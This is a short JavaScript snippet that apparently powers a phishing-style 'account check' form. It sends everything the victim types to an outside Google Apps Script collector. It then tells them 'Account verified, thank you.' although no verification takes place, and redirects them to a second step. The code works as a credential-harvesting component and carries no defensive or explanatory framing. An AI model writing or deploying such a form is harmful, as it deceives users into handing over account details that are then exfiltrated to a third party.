const sheet = 'https://script.google.com/macros/s/PLACEHOLDER/exec'
const entry = document.forms['account-check']

entry.onsubmit = async e => {
  e.preventDefault()
  entry.querySelector('button').disabled = true
  try {
    await fetch(sheet, { method: 'POST', body: new FormData(entry) })
    alert('Account verified, thank you.')
    window.location.href = 'step2.html'
  } catch (problem) {
    console.error(problem.message)
  }
}
